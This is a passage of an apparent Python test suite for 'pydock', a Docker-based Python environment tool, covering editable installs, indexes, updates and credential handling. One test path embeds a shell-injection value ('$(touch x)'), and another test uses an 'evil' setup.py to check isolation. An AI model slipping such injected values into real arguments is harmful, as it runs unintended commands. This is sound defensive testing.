        project = setuptools_project(self.work / "a b, \"c\" $(touch x) 'd'")
        self.ok("create", "ds", PYTHON)
        self.ok("install", "ds", ".", cwd=project)
        self.assertEqual(self.ok("run", "ds", "tiny"), "42\n")
        self.assertEqual(sorted(p.name for p in project.iterdir()), ["setup.py", "tiny.py"])

    def test_folders_are_mounted_read_only(self) -> None:
        setuptools_project(self.work / "tiny")
        self.ok("create", "ds", PYTHON)
        script = self.ok("-n", "install", "ds", "./tiny")
        mounts = [word for word in script.split() if word.startswith("type=bind") and "tiny" in word]
        self.assertTrue(mounts and all(word.endswith(",readonly") for word in mounts), mounts)

    def test_a_newer_wheel_takes_the_place_of_the_older(self) -> None:
        self.ok("create", "ds", PYTHON, str(make_wheel(self.work, "alpha", "1.0")))
        self.ok("install", "ds", str(make_wheel(self.work, "alpha", "1.1")))
        self.assertEqual(self.requirements("ds"), "./wheels/alpha-1.1-py3-none-any.whl\n")
        self.assertEqual([p.name for p in (self.folder("ds") / "wheels").iterdir()], ["alpha-1.1-py3-none-any.whl"])
        self.ok("install", "ds", "six==1.16.0")
        self.assertEqual(self.requirements("ds"), "./wheels/alpha-1.1-py3-none-any.whl\nsix==1.16.0\n")
        self.assertEqual(self.python("import alpha; print(alpha.version)"), "1.1")


BACKENDS = {
    "setuptools": ("setuptools", "setuptools.build_meta", ""),
    "hatchling": ("hatchling", "hatchling.build", ""),
    "flit": ("flit_core>=3.11", "flit_core.buildapi", ""),
    "poetry": ("poetry-core>=2", "poetry.core.masonry.api", ""),
    "pdm": ("pdm-backend", "pdm.backend", "[tool.pdm.build]\npackage-dir = 'src'\n"),
}


class EditableTest(PackageCase):
    """`-e FOLDER`, in local environments."""

    def project(self, folder: Path, backend: str = "setuptools") -> Path:
        requires, module, more = BACKENDS[backend]
        source = folder / "src/mylib/__init__.py"
        source.parent.mkdir(parents=True)
        source.write_text('"""A library."""\ndef main():\n    print("one", __file__)\n', encoding="utf-8")
        (folder / "pyproject.toml").write_text(
            "[build-system]\nrequires = ['%s']\nbuild-backend = '%s'\n[project]\nname = 'mylib'\nversion = '1.0'\ndescription = 'A library.'\n"
            "dependencies = ['six<1.17']\n[project.optional-dependencies]\ndev = ['iniconfig==2.0.0']\ndocs = ['pluggy==1.5.0']\n"
            "[project.scripts]\nmytool = 'mylib:main'\n%s" % (requires, module, more), encoding="utf-8")
        return source

    def folder(self, name: str) -> Path:
        return self.work / ".pydock/envs" / name

    def state(self, name: str = "ds") -> Any:
        folders = [content(folder / name) for folder in (self.work / ".pydock/envs", self.home / ".pydock/envs") if (folder / name).exists()]
        return folders, self.tags(), self.containers()

    def listed_packages(self, name: str = "dev") -> List[str]:
        return self.ok("run", name, "python", "-c", "import importlib.metadata as m; print(*sorted(d.name for d in m.distributions(path=['/opt/venv/lib/python%s/site-packages'])))" % PYTHON).split()

    def test_a_new_one_whose_cache_is_a_volume(self) -> None:
        self.project(self.work)
        result = self.run_pydock("--local", "create", "dev", PYTHON, "--editable", ".", environ={"PYDOCK_CACHE": "volume"})
        self.assertEqual(result.status, 0, result)
        self.assertTrue(self.ok("run", "dev", "mytool").startswith("one "))

    def test_edits_take_effect_and_every_command_keeps_it(self) -> None:
        source = self.project(self.work)
        self.ok("--local", "create", "dev", PYTHON)
        self.ok("install", "dev", "-e", ".[dev]")
        expected = ["iniconfig==2.0.0", "-e .[dev]", "six==1.16.0  # six<1.17"]
        self.assertEqual(self.lines("dev"), expected)
        self.assertEqual(self.ok("run", "dev", "mytool"), "one %s\n" % source)
        source.write_text(source.read_text(encoding="utf-8").replace("one", "two"), encoding="utf-8")
        self.assertEqual(self.ok("run", "dev", "mytool"), "two %s\n" % source)
        self.assertEqual(self.python("import importlib.metadata as m; print(m.version('mylib'))", "dev"), "1.0")
        self.ok("install", "dev", "-e", "./src/..")
        self.assertEqual(self.lines("dev"), expected, "extras that were there stay")
        for command in (["install", "dev", "packaging==24.0"], ["uninstall", "dev", "packaging"], ["update", "dev"], ["build", "dev"], ["rollback", "dev", "2"]):
            self.ok(*command)
            self.assertEqual(self.ok("run", "dev", "mytool"), "two %s\n" % source, command)
        self.assertEqual(self.lines("dev"), expected)
        self.ok("clone", "dev", "twin")
        self.assertEqual(self.ok("run", "twin", "mytool"), "two %s\n" % source)
        self.ok("install", "dev", "-e", ".[docs]")
        self.assertEqual(self.lines("dev"), ["iniconfig==2.0.0", "-e .[dev,docs]", "pluggy==1.5.0", expected[-1]])
        self.ok("update", "dev", "--python", "3.13")
        self.assertEqual(self.ok("run", "dev", "mytool"), "two %s\n" % source)
        self.ok("uninstall", "dev", "mylib")
        self.assertNotIn("-e", self.requirements("dev"))
        self.assertEqual(self.run_pydock("run", "dev", "mytool").status, 127)
        self.assertEqual({path.name for path in self.work.iterdir()}, {".pydock", "pyproject.toml", "src"})
        self.assertEqual({path.name for path in source.parent.parent.iterdir()}, {"mylib", "mylib.egg-info"})
        self.assertEqual([tag for tag in self.tags() if ":tmp" in tag], [])

    def test_a_line_by_hand_another_folder_and_docker_alone(self) -> None:
        self.project(self.work)
        self.ok("--local", "create", "dev", PYTHON)
        self.write("  -e \\\n.\n-e.\n", "dev")
        result = self.run_pydock("build", "dev")
        self.assertEqual(result.status, 0, result)
        self.assertIn("(hint: pydock install dev -e .)", result.err)
        self.ok("install", "dev", "-e", ".")
        self.assertEqual([line for line in self.lines("dev") if "six" in line], ["six==1.16.0  # six<1.17"])
        self.assertIn("mylib", self.listed_packages())
        other = self.base / "elsewhere"  # what somebody else gets from the repository
        shutil.copytree(str(self.work), str(other), ignore=shutil.ignore_patterns("*.egg-info"))
        self.assertEqual(self.ok("run", "dev", "mytool", cwd=other), "one %s/src/mylib/__init__.py\n" % other)
        tag = self.prefix + "-by-hand"
        self.addCleanup(engine, "rmi", "-f", tag, check=False)
        engine("build", "-q", "-t", tag, "-f", str(self.folder("dev") / "dockerfile"), str(self.folder("dev")))
        self.assertIn("six", engine("run", "--rm", tag, "ls", "/opt/venv/lib/python%s/site-packages" % PYTHON))
        self.assertNotIn("mylib", engine("run", "--rm", tag, "ls", "/opt/venv/lib/python%s/site-packages" % PYTHON))

    def test_lock_verify_digest_and_export(self) -> None:
        source = self.project(self.work)
        self.ok("--local", "create", "dev", PYTHON, "--editable", ".")
        self.ok("lock", "dev")
        self.ok("lock", "--check", "dev")
        digest = self.ok("digest", "dev")
        self.ok("build", "dev")
        (self.work / "README.md").write_text("more\n", encoding="utf-8")
        self.ok("install", "dev", "-e", ".")
        self.assertEqual(self.ok("digest", "dev"), digest)
        self.ok("verify", "dev")
        self.assertEqual(self.ok("run", "dev", "mytool"), "one %s\n" % source)
        self.assertIn("not exported: '-e .'", self.run_pydock("export", "dev", "dev.tar").err)
        with tarfile.open(str(self.work / "dev.tar")) as archive:
            text = archive.extractfile("dev/requirements.txt")
            assert text
            self.assertNotIn(b"-e", text.read())
        before = self.state("dev")
        self.fails("export", "dev", "--image", "x.tar", says="in place", hint="pydock export dev dev.tar")
        self.fails("--global", "clone", "dev", "other", says="in place")
        self.assertEqual(self.state("dev"), before)

    def test_each_backend(self) -> None:
        for backend in BACKENDS:
            with self.subTest(backend):
                folder = self.work / backend
                source = self.project(folder, backend)
                self.ok("--local", "create", backend, PYTHON, "--editable", ".", cwd=folder)
                self.assertEqual(self.ok("run", backend, "mytool", cwd=folder), "one %s\n" % source)
                self.ok("delete", "-y", backend, cwd=folder)

    def test_a_project_with_a_setup_py_alone_and_one_whose_needs_its_build_tells(self) -> None:
        folder = setuptools_project(self.work / "sub/tiny")
        self.ok("--local", "create", "dev", PYTHON, cwd=self.work)
        self.ok("install", "dev", "-e", "sub/tiny[more]")
        self.assertEqual(self.lines("dev"), ["iniconfig==2.0.0", "-e ./sub/tiny[more]"])
        self.assertEqual(self.ok("run", "dev", "tiny").strip(), "42")
        (folder / "tiny.py").write_text("def main():\n    print(43)\n", encoding="utf-8")
        self.assertEqual(self.ok("run", "dev", "tiny").strip(), "43")

    def test_where_it_cannot_be(self) -> None:
        self.project(self.work / "in")
        self.project(self.base / "out")
        self.ok("create", "ds", PYTHON)
        before = self.state("ds")
        self.fails("install", "ds", "-e", "in", says="ds is global", hint="pydock --local create ds")
        (self.work / "r.txt").write_text("-e ./in\n", encoding="utf-8")
        self.fails("install", "ds", "-r", "r.txt", says="ds is global")
        self.assertEqual(self.state("ds"), before)
        self.fails("--local", "create", "dev", PYTHON, "-e", ".", says="cannot be stored in docker-compose.yml", hint="--editable FOLDER")
        self.ok("--local", "create", "dev", PYTHON)
        before = self.state("dev")
        self.fails("--local", "install", "dev", "-e", "../out", says="is outside")
        self.fails("--local", "install", "dev", "-e", ".", says="is not a project")
        self.fails("--local", "install", "dev", "-e", "./in[nosuch]", says="has no extra 'nosuch'")
        (self.work / "in/pyproject.toml").write_text("[build-system]\nrequires = ['no-such-package-of-pydock']\nbuild-backend = 'nosuch'\n[project]\nname = 'mylib'\nversion = '1'\n", encoding="utf-8")
        self.fails("--local", "install", "dev", "-e", "./in", says="cannot install -e ./in in dev")
        self.assertEqual(self.state("dev"), before)

    def test_what_a_dry_run_prints_does_it(self) -> None:
        source = self.project(self.work)
        script = self.ok("-n", "--local", "create", "dev", PYTHON, "--editable", ".[dev]")
        self.assertFalse((self.work / ".pydock").exists())
        subprocess.run(["sh", "-e"], input=script, text=True, check=True, cwd=str(self.work), env=self.environ, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.assertIn("-e .[dev]", self.lines("dev"))
        self.assertEqual(self.ok("run", "dev", "mytool"), "one %s\n" % source)

    def test_its_code_runs_as_the_caller_and_reaches_the_project_alone(self) -> None:
        """And leaves nothing of root's there."""
        self.give_to(STRANGER)
        me = {"preexec_fn": as_user(STRANGER, STRANGER, docker_groups())}
        folder = self.work / "evil"
        folder.mkdir()
        (folder / "setup.py").write_text(
            "import os, sys\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\n"
            "if here.startswith(%r):\n    open(here + '/seen', 'a').write('%%d %%s\\n' %% (os.getuid(), os.path.exists('/cache/uv')))\n"
            "    try:\n        open(%r, 'w')\n    except OSError:\n        pass\n"
            "setup(name='evil', version='1', py_modules=[])\n" % (str(folder), str(self.work / ".pydock/evil")), encoding="utf-8")
        os.chown(folder, STRANGER, STRANGER)
        self.ok("--local", "create", "dev", PYTHON, **me)
        self.ok("install", "dev", "-e", "./evil", **me)
        seen = (folder / "seen").read_text(encoding="utf-8").split("\n")
        self.assertEqual(set(seen) - {""}, {"%d False" % STRANGER})
        self.assertEqual({path.stat().st_uid for path in folder.rglob("*") if path.name != "setup.py"}, {STRANGER})
        self.assertFalse((self.work / ".pydock/evil").exists())


class IndexTest(PackageCase):
    def test_an_index_without_uv_leaves_others_their_installer(self) -> None:
        make_wheel(self.base / "packages", "alpha")
        index = self.index()
        for name, package, environ, installer in (("one", "alpha", {"PIP_INDEX_URL": index.url, "PIP_TRUSTED_HOST": index.host.split(":")[0]}, "pip"), ("ds", "six", {}, "uv")):
            self.ok("create", "--no-build", name, PYTHON)
            path = self.folder(name) / "dockerfile"
            text = path.read_text(encoding="utf-8")
            path.write_text(text.replace("AS installer\n", "AS installer\nENV OF=%s\n" % self.prefix), encoding="utf-8")
            self.write(package + "\n", name)
            self.ok("build", name, environ=environ)
            code = "from importlib.metadata import distribution; print(distribution('%s').read_text('INSTALLER').strip())"
            self.assertEqual(self.python(code % package, name), installer)

    def test_an_index_of_the_command_line_is_kept_as_an_option_line(self) -> None:
        for version in ("1.0", "2.0"):
            make_wheel(self.base / "packages", "alpha", version)
        make_wheel(self.base / "packages", "beta")
        index = self.index()
        self.ok("create", "ds", PYTHON)
        self.write("# mine\n")
        self.ok("install", "ds", "alpha<2", "--index-url", index.url)
        self.assertEqual(sorted(self.lines()), sorted(["# mine", "--index-url " + index.url, "alpha==1.0  # alpha<2"]))
        self.ok("install", "ds", "beta")
        self.assertEqual(self.lines().count("--index-url " + index.url), 1)
        self.ok("build", "--no-cache", "ds", environ={"PIP_TRUSTED_HOST": index.host.split(":")[0]})
        self.assertEqual(self.python("import alpha, beta; print(alpha.version)"), "1.0")
        self.ok("update", "ds", "alpha")
        self.assertIn("alpha==1.0  # alpha<2", self.lines(), "it stays within what was asked for")
        self.ok("update", "ds", "alpha>=1")
        self.assertIn("alpha==2.0  # alpha>=1", self.lines())

    def test_a_package_from_another_index_is_found_again(self) -> None:
        """Two indexes of which neither has all; the environment's own stays, and the other one serves what was asked from it."""
        for version, folder, text in (("1.0", "other", "other"), ("1.5", "other", "other"), ("2.0", "packages", "own")):
            make_wheel(self.base / folder, "alpha", version, requires=["beta"], files={"where.py": "x = %r\n" % text})
        make_wheel(self.base / "packages", "beta")
        make_wheel(self.base / "packages", "gamma")
        own, other = self.index(), self.index("other")
        self.environ["PIP_TRUSTED_HOST"] = own.host.split(":")[0]
        for installer in ("uv", "pip"):
            with self.subTest(installer=installer):
                self.environ["PYDOCK_INSTALLER"] = installer
                self.ok("create", installer, PYTHON, "gamma", "--index-url", own.url)
                self.ok("install", installer, "alpha<1.2", "-i", other.url, environ={"PIP_INDEX_URL": other.url})  # the file counts more than the host
                options = ["--index-url " + own.url, "--extra-index-url " + other.url]
                rest = ["beta==1.0  # via alpha", "gamma==1.0"]
                self.assertEqual(self.lines(installer), [*options, "alpha==1.0  # alpha<1.2  # --index-url " + other.url, *rest])
                self.ok("build", installer)
                self.assertEqual(self.python("import where, beta; print(where.x)", installer), "other")
                self.ok("update", installer, "alpha>=1")
                self.assertEqual(self.lines(installer), [*options, "alpha==1.5  # alpha>=1  # --index-url " + other.url, *rest])
                make_wheel(self.base / "other", "alpha", "1.6", requires=["beta"])
                self.ok("update", installer)
                self.assertIn("alpha==1.6  # alpha>=1  # --index-url " + other.url, self.lines(installer))
                (self.base / "other" / "alpha-1.6-py3-none-any.whl").unlink()

    def test_a_url_is_kept_as_a_url(self) -> None:
        wheel = make_wheel(self.base / "packages", "alpha")
        index = self.index()
        url = "http://%s/files/%s" % (index.host, wheel.name)
        self.ok("create", "ds", PYTHON, url)
        self.assertEqual(self.requirements("ds"), "alpha @ %s\n" % url)
        self.ok("install", "ds", "six==1.16.0")
        self.assertEqual(self.requirements("ds"), "alpha @ %s\nsix==1.16.0\n" % url)

    def test_a_file_by_its_address(self) -> None:
        (self.base / "packages").mkdir()
        make_wheel(self.base / "packages", "alpha")
        for name, text in (("limits.whl", "six==1.15.0\n"), ("more.whl", "six\n")):  # the index serves wheels only
            (self.base / "packages" / name).write_text(text, encoding="utf-8")
        index = self.index()
        files = "http://%s/files/" % index.host
        (self.work / "r.txt").write_text('-c "%slimits.whl"\n-r %smore.whl\n' % (files, files), encoding="utf-8")
        self.ok("create", "ds", PYTHON, "-r", "r.txt")
        self.assertEqual(self.lines(), ["six==1.15.0"])
        self.ok("install", "ds", "-U", "six", "-c", files + "limits.whl")
        self.assertEqual(self.lines(), ["six==1.15.0"])
        self.ok("install", "ds", "-U", "-r", files + "more.whl")
        self.assertNotEqual(self.lines(), ["six==1.15.0"])

    def test_a_password_is_refused_wherever_it_would_be_written_down(self) -> None:
        self.ok("create", "ds", PYTHON)
        before = self.state()
        (self.work / "r.txt").write_text("--index-url https://somebody:%s@host.invalid/simple\nsix\n" % SECRET, encoding="utf-8")
        (self.work / "token.txt").write_text("six @ https://%s@host.invalid/six.whl\n" % SECRET, encoding="utf-8")
        for words in (["six", "--index-url", "https://somebody:%s@host.invalid/simple"], ["six", "--extra-index-url", "https://%s@host.invalid/simple"],
                      ["https://somebody:%s@host.invalid/six-1.0-py3-none-any.whl"], ["git+https://%s@host.invalid/x.git"], ["x @ git+https://a:%s@host.invalid/x.git"],
                      ["-r", "r.txt"], ["-r", "token.txt"], ["six", "--", "--index-url", "https://somebody:%s@host.invalid/simple"],
                      ["six", "--", "--extra-index-url=https://somebody:%s@host.invalid/simple"]):
            words = [word.replace("%s", SECRET) for word in words]
            with self.subTest(words=words):
                result = self.fails("install", "ds", *words, hint="netrc")
                self.assertNotIn(SECRET, result.err + result.out)
                self.assertEqual(self.state(), before)


class UninstallTest(PackageCase):
    def test_what_is_not_there_is_an_error_that_changes_nothing(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.16.0", "iniconfig==2.0.0")
        before = self.state()
        self.fails("uninstall", "ds", "iniconfg", says="iniconfg", hint="iniconfig")
        self.fails("uninstall", "ds", "six", "nothing-there", says="nothing-there")
        self.fails("uninstall", "ds", "pip")
        self.assertEqual(self.state(), before)
        self.ok("uninstall", "ds", "SIX")
        self.assertEqual(self.requirements("ds"), "iniconfig==2.0.0\n")
        self.assertEqual(self.python("import importlib.util as u; print(u.find_spec('six'), u.find_spec('iniconfig').name)"), "None iniconfig")
        self.ok("run", "ds", "pip", "--version")
        self.assert_agree("ds")
        self.assert_clean("ds")

    def test_a_package_that_another_needs_stays(self) -> None:
        self.ok("create", "ds", PYTHON, str(make_wheel(self.work, "alpha", requires=["six"])), "six==1.16.0")
        before = self.state()
        self.fails("uninstall", "ds", "six", says="are incompatible")
        self.assertEqual(self.state(), before)
        self.ok("uninstall", "ds", "six", "alpha")
        self.assertEqual(self.requirements("ds"), "")


class UpdateTest(PackageCase):
    def test_with_a_name_only_that_and_without_all(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.15.0", "iniconfig==1.1.0", str(make_wheel(self.work, "alpha")))
        self.ok("update", "ds", "six")
        six = next(line for line in self.lines() if line.startswith("six=="))
        self.assertNotEqual(six, "six==1.15.0")
        self.assertIn("iniconfig==1.1.0", self.lines())
        self.ok("update", "ds")
        self.assertNotIn("iniconfig==1.1.0", self.lines())
        self.assertIn("./wheels/alpha-1.0-py3-none-any.whl", self.lines())
        self.assert_agree("ds")
        before = self.state()
        self.assertIn("up to date", self.run_pydock("update", "ds").err)
        self.assertEqual(self.state(), before)
        self.assertIn("ds: only requirements.txt changed; next:", self.run_pydock("update", "ds", "six<99").err)
        self.assert_clean("ds")

    def test_all_are_resolved_anew_together(self) -> None:
        alpha = make_wheel(self.base / "packages", "alpha", "1.0")
        make_wheel(self.base / "packages", "alpha", "2.0")
        make_wheel(self.base / "packages", "beta", "1.0", requires=["alpha<2"])
        self.assertTrue(alpha.exists())
        index = self.index()
        self.ok("create", "ds", PYTHON, "alpha==1.0", "beta", "--index-url", index.url)
        before = self.lines()
        self.ok("update", "ds")
        self.assertEqual(self.lines(), before, "beta 1.0 needs alpha<2")

    def test_it_stays_within_what_was_asked_for_and_drops_what_nothing_needs(self) -> None:
        make_wheel(self.base / "packages", "alpha", "1.0", requires=["gamma"])
        make_wheel(self.base / "packages", "beta", "1.0")
        make_wheel(self.base / "packages", "gamma", "1.0")
        index = self.index()
        self.ok("create", "ds", PYTHON, "alpha<3", "beta<2", "--index-url", index.url)
        self.assertEqual(self.lines()[1:], ["alpha==1.0  # alpha<3", "beta==1.0  # beta<2", "gamma==1.0  # via alpha"])
        self.write("# mine\n" + self.requirements("ds").replace("# beta<2", "# beta<2  # why"))
        for name in ("alpha", "beta"):
            make_wheel(self.base / "packages", name, "2.0")
        self.assertEqual(self.run_pydock("uninstall", "ds", "gamma").status, 1, "alpha needs it")
        self.ok("update", "ds")
        expected = ["# mine", "--index-url " + index.url, "alpha==2.0  # alpha<3", "beta==1.0  # beta<2  # why"]
        self.assertEqual(self.lines(), expected)
        self.assertEqual(self.python("import importlib.util as u; print(u.find_spec('gamma'))"), "None")
        self.ok("update", "ds", "beta<3")
        self.assertEqual(self.lines(), [*expected[:3], "beta==2.0  # beta<3  # why"])
        self.ok("install", "ds", "alpha==1.0")
        self.assertEqual(self.lines(), [*expected[:2], "alpha==1.0", "beta==2.0  # beta<3  # why", "gamma==1.0  # via alpha"])
        result = self.run_pydock("uninstall", "ds", "alpha")
        self.assertIn("no longer needed: gamma; to remove: pydock uninstall ds gamma", result.err)
        self.assertIn("gamma==1.0  # via alpha", self.lines())
        self.ok("build", "--no-cache", "ds")
        self.ok("clone", "ds", "twin")
        self.ok("rollback", "ds", "2")
        self.assertEqual(self.listed()["ds"]["state"], "ready")
        self.assert_clean("ds")

    def test_another_python_resolves_anew_within_what_was_asked_for(self) -> None:
        for name, version in (("alpha", "1.0"), ("alpha", "2.0"), ("old", "1.0")):
            make_wheel(self.base / "packages", name, version, requires=["six"] if name == "alpha" else [])
        index = self.index()
        self.environ["PIP_TRUSTED_HOST"] = index.host.split(":")[0]
        local = make_wheel(self.work, "local")
        (self.work / "r.txt").write_text("--index-url %s\nalpha<2\nold; python_version < '3.12'\nbeta @ http://%s/files/%s\n" % (
            index.url, index.host, make_wheel(self.base / "packages", "beta").name), encoding="utf-8")
        make_wheel(self.base / "packages", "six", "1.0")
        self.ok("create", "ds", PYTHON, "-r", "r.txt", str(local))
        kept = [line for line in self.lines() if not line.startswith(("old", "six"))]
        self.assertIn("old==1.0; python_version < '3.12'", self.lines())
        make_wheel(self.base / "packages", "six", "1.1")
        before = self.state()
        self.fails("update", "ds", "--python", "3.99", says="cannot pull", hint="pydock update ds --python 3.13")
        self.fails("update", "ds", "--python", "new", says="to Python new")
        self.fails("update", "ds", "--python", PYTHON, says="already has Python 3.11")
        self.fails("update", "ds", "no-such-package-of-pydock", "--python", "3.13", says="cannot update")
        self.assertEqual(self.state(), before)
        self.assertIn("ds: Python 3.13, removed old 1.0, six 1.1", self.run_pydock("update", "ds", "--python", "3.13").err)
        self.assertIn("FROM ${REPOSITORY}python:3.13-slim AS base", (self.folder("ds") / "dockerfile").read_text(encoding="utf-8"))
        self.assertEqual(self.lines(), [*kept[:-1], kept[-1], "old==1.0; python_version < '3.12'", "six==1.1  # via alpha"])
        self.assertEqual(self.python("import sys, alpha, beta, local, six; print(sys.version_info[1])"), "13")
        self.assertEqual(self.listed()["ds"]["state"], "ready")
        self.assert_clean("ds")
        self.ok("rollback", "ds")
        self.assertEqual(self.state()[0], before[0])

    def test_nothing_to_update_is_no_error(self) -> None:
        self.ok("create", "ds", PYTHON)
        self.assertIn("no packages", self.run_pydock("update", "ds").err)


class DryRunTest(PackageCase):
    def test_the_script_does_the_same_and_leaves_a_plain_freeze(self) -> None:
        wheel = make_wheel(self.work, "alpha", requires=["six"])
        self.ok("create", "ds", PYTHON, "iniconfig<3")
        self.write("# mine\n" + self.requirements("ds"))
        self.ok("build", "ds")
        for argv, lines in ((["install", "ds", str(wheel), "six<1.17"], ["./wheels/" + wheel.name, "iniconfig", "six"]), (["uninstall", "ds", "alpha"], ["iniconfig", "six"]),
                            (["update", "ds"], ["iniconfig", "six"]), (["build", "ds"], ["iniconfig", "six"])):
            with self.subTest(argv):
                before = self.state()
                script = self.ok("-n", *argv)
                self.assertEqual(self.state(), before)
                done = subprocess.run(["sh", "-e"], input=script, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=str(self.work))
                self.assertEqual(done.returncode, 0, done.stdout)
                self.assertEqual([line.split("==")[0] for line in self.lines()], lines)
                self.assert_agree("ds")
                self.assert_clean("ds")


class PipTest(PackageCase):
    """The same by pip, where uv cannot be had or is not wanted."""

    def setUp(self) -> None:
        super().setUp()
        self.environ["PYDOCK_INSTALLER"] = "pip"

    def test_install_update_uninstall_build(self) -> None:
        self.ok("create", "ds", PYTHON, "six==1.15.0")
        self.ok("install", "ds", "tabulate[widechars]==0.9.0", "iniconfig==2.0.0")
        self.ok("update", "ds", "six")
        self.assertNotIn("six==1.15.0", self.lines())
        self.ok("uninstall", "ds", "iniconfig")
        self.assertEqual([line.split("==")[0] for line in self.lines()], ["six", "tabulate[widechars]", "wcwidth"])
        self.assert_agree("ds")
        self.ok("build", "--no-cache", "ds")
        self.assert_agree("ds")
        self.assertIn("1  2", self.ok("run", "ds", "tabulate", input="1 2\n"))
        before = self.state()
        self.fails("install", "ds", "no-such-package-of-pydock")
        self.fails("uninstall", "ds", "nothing-there", says="nothing-there")
        self.assertEqual(self.state(), before)
        found = engine("run", "--rm", "-u", "0", "--pull", "never", self.image(), "sh", "-c", "find / -xdev -name .cache -o -path '/cache/*' -o -path '/uv/*' "
                       "-o -name uv -not -path /uv -not -path '/proc/*'; "
                       "find /opt/venv -path '*-packages/__pycache__/six.*.pyc'")
        self.assertRegex(found, r"^/opt/venv/\S+\.pyc$")
        self.assert_clean("ds")

    def test_a_folder_and_a_wheel(self) -> None:
        project = setuptools_project(self.work / "tiny")
        before = content(project)
        self.ok("create", "ds", PYTHON, "./tiny", str(make_wheel(self.work, "alpha")))
        self.assertEqual(content(project), before)
        self.assertEqual(self.ok("run", "ds", "tiny"), "42\n")
        setuptools_project(project, answer=43)
        self.ok("install", "ds", "./tiny")
        self.assertEqual(self.ok("run", "ds", "tiny"), "43\n")
        self.assertEqual(len(self.lines()), 2)
        self.assertTrue(all(line.startswith("./wheels/") for line in self.lines()), self.lines())
        self.ok("build", "--no-cache", "ds")
        self.assertEqual(self.ok("run", "ds", "tiny"), "43\n")


def holds(images: Iterable[str], secret: bytes) -> List[str]:
    """Where images hold those bytes: in their history and configuration, and in all files of all their layers, compressed
    ones included."""
    images = sorted(set(images))
    found = [what for what, text in [("inspect", engine("image", "inspect", *images))] + [("history", engine("history", "--no-trunc", image)) for image in images]
             if secret in text.encode()]
    base: List[str] = json.loads(engine("image", "inspect", "--format", "{{json .RootFS.Layers}}", "python:%s-slim" % PYTHON))

    def look(name: str, data: bytes) -> None:
        if data[:2] == b"\x1f\x8b":
            data = gzip.decompress(data)
        if secret in data:
            found.append(name)
        if data[257:262] == b"ustar" and "sha256:" + hashlib.sha256(data).hexdigest() not in base:
            with tarfile.open(fileobj=io.BytesIO(data)) as archive:
                for member in archive:
                    stream = archive.extractfile(member) if member.isfile() else None
                    start = stream.read(2) if stream else b""
                    if stream and start == b"\x1f\x8b":
                        try:
                            look(name + ":" + member.name, start + stream.read())
                        except OSError:
                            pass

    process = subprocess.Popen([*ENGINE, "save", *images], stdout=subprocess.PIPE)
    with tarfile.open(fileobj=process.stdout, mode="r|") as archive:
        for member in archive:
            stream = archive.extractfile(member) if member.isfile() else None
            if stream:
                look(member.name, stream.read())
    if process.stdout:
        process.stdout.close()
    process.wait()
    return found


class SecretTest(PackageCase):
    """Settings and credentials of the host work in install and build, and stay nowhere."""

    def assert_nowhere(self) -> None:
        self.assertEqual(holds(self.tags(), SECRET.encode()), [])
        for path, data in content(self.home / ".pydock").items():
            self.assertNotIn(SECRET.encode(), data, path)

    def build(self, name: str, environ: Dict[str, str], works: str) -> None:
        """Builds from the files alone."""
        self.write(self.requirements(name) + "# %s\n" % self.prefix, name)  # no step of another build is the same
        self.ok("build", name, environ=environ)
        self.assertEqual(self.python(works, name), "1.0")
        self.assert_nowhere()

    def prepare(self) -> None:
        make_wheel(self.base / "packages", "alpha")
        make_wheel(self.base / "packages", "beta")
        self.ok("create", "ds", PYTHON)

    def test_an_index_with_a_password_from_variables(self) -> None:
        self.prepare()
        index = self.index(login=True)
        address = index.url.replace("://", "://somebody:%s@" % SECRET)
        environ = {"PIP_INDEX_URL": address, "PIP_TRUSTED_HOST": index.host.split(":")[0]}
        self.fails("install", "ds", "alpha", environ={**environ, "PIP_INDEX_URL": index.url})
        result = self.run_pydock("install", "ds", "alpha", "--verbose", environ=environ)
        self.assertEqual(result.status, 0, result)
        self.assertNotIn(SECRET, result.err)
        self.assertEqual(self.requirements("ds"), "alpha==1.0\n")
        self.ok("install", "ds", "beta", environ={"UV_DEFAULT_INDEX": address})
        self.assertEqual(self.requirements("ds"), "alpha==1.0\nbeta==1.0\n")
        self.build("ds", environ, "import alpha, beta; print(alpha.version)")

    def test_a_login_from_netrc_and_an_index_from_pip_conf(self) -> None:
        self.prepare()
        index = self.index(login=True)
        conf = self.home / ".config/pip/pip.conf"
        conf.parent.mkdir(parents=True)
        conf.write_text("[global]\nindex-url = %s\ntrusted-host = %s\n" % (index.url, index.host.split(":")[0]), encoding="utf-8")
        environ = {"XDG_CONFIG_HOME": str(self.home / ".config"), "PIP_CONFIG_FILE": ""}
        self.fails("install", "ds", "alpha", environ=environ)
        netrc = self.home / ".netrc"
        netrc.write_text("machine %s login somebody password %s\n" % (index.host.split(":")[0], SECRET), encoding="utf-8")
        netrc.chmod(0o600)
        self.ok("install", "ds", "alpha", environ=environ)
        self.assertEqual(self.requirements("ds"), "alpha==1.0\n")
        self.build("ds", environ, "import alpha; print(alpha.version)")

    def test_a_login_from_netrc_for_an_index_in_requirements(self) -> None:
        self.prepare()
        index = self.index(login=True)
        (self.home / ".netrc").write_text("machine %s login somebody password %s\n" % (index.host.split(":")[0], SECRET), encoding="utf-8")
        self.ok("install", "ds", "alpha", "--index-url", index.url)
        self.assertEqual(self.requirements("ds"), "--index-url %s\nalpha==1.0\n" % index.url)
        self.build("ds", {"PIP_TRUSTED_HOST": index.host.split(":")[0]}, "import alpha; print(alpha.version)")

    def test_a_proxy_with_a_password(self) -> None:
        self.prepare()
        index = self.index(login=True, proxy=True)
        environ = {"HTTP_PROXY": "http://somebody:%s@%s" % (SECRET, index.host), "PIP_INDEX_URL": "http://index.invalid/simple", "PIP_TRUSTED_HOST": "index.invalid"}
        environ["http_proxy"] = environ["HTTP_PROXY"]
        self.ok("install", "ds", "alpha", environ=environ)
        self.assertIn("http://index.invalid/simple/alpha/", index.seen)
        self.assertEqual(self.requirements("ds"), "alpha==1.0\n")
        self.write("--index-url http://index.invalid/simple\n--trusted-host index.invalid\nalpha==1.0\n")
        environ = {"HTTP_PROXY": environ["HTTP_PROXY"], "http_proxy": environ["HTTP_PROXY"]}
        seen = len(index.seen)
        self.build("ds", environ, "import alpha; print(alpha.version)")
        self.assertIn("http://index.invalid/simple/alpha/", index.seen[seen:])
        self.assert_nowhere()

    def test_a_certificate_authority_of_the_host(self) -> None:
        self.prepare()
